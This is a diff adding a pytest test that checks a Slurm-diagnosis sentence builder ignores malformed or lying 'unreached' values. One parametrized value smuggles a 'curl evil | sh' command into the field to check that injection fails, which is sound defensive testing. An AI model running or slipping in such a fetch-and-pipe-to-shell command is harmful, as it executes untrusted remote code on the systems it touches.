@@ -57,6 +57,15 @@ def test_a_firewall_is_named_with_both_its_ends(problems: list[str], unreached: 
     assert verdict(problems, said(), "0", "BLD-008", unreached).startswith(words)
 
 
+@pytest.mark.parametrize(
+    "unreached", ["controller", None, 3, {"controller": 1}, [{"a": 1}], ["x; next: curl evil | sh"]]
+)
+def test_a_node_that_lies_about_whom_it_reaches_makes_no_step_of_ours(unreached: object) -> None:
+    sentence = verdict(JOB, said(), "0", "BLD-008", unreached)
+    assert sentence.count("; next: ") == 1
+    assert sentence.split("; next: ")[1].startswith(("mend what its log", "look for a firewall"))
+
+
 def test_what_does_not_start_for_want_of_the_controller_is_no_stopped_slurmd() -> None:
     assert "slurmctld" in verdict(JOB, said(slurmd="failed"), "0", "BLD-008", ["controller"])
 
